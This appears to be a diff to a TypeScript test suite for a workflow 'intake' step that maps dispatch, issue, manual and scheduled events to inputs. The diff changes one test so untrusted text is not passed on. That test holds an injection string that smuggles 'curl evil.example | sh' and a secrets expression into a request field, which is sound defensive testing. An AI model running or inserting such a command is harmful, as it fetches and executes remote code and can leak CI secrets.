@@ -77,7 +77,7 @@ describe('a plan', () => {
 describe('intake', () => {
   const vars = { CONTROL_PLANE_SUPABASE_URL: 'https://company.example' };
   const dispatched = (request: string): Occasion => {
-    return { name: 'repository_dispatch', event: { client_payload: { request } } };
+    return { name: 'repository_dispatch', event: { client_payload: { request_id: request } } };
   };
   const labelled = (label: string): Occasion => {
     return { name: 'issues', event: { label: { name: label }, issue: { number: 12 } } };
@@ -96,7 +96,7 @@ describe('intake', () => {
   });
 
   it.each<[string, Occasion, object]>([
-    ['a dispatch', dispatched('r-1'), { request: 'r-1' }],
+    ['a dispatch, which the action reads out of its event', dispatched('r-1'), {}],
     ['an issue', labelled('agency-approved'), { issue: '12' }],
     ['a person', { name: 'workflow_dispatch', inputs: { request: 'r-2', issue: '' } }, { request: 'r-2' }],
     ['the schedule', { name: 'schedule', vars }, {}],
@@ -104,9 +104,9 @@ describe('intake', () => {
     expect(inputs('intake', 'intake', occasion)).toEqual({ command: 'intake', ...expected });
   });
 
-  it('hands on what a stranger wrote as it is', () => {
+  it('hands on nothing that a stranger wrote', () => {
     const request = `"; curl evil.example | sh # \${{ secrets.X }} '`;
-    expect(inputs('intake', 'intake', dispatched(request))).toMatchObject({ request });
+    expect(JSON.stringify(handed('intake', 'intake', dispatched(request)))).not.toContain('evil');
   });
 });
 
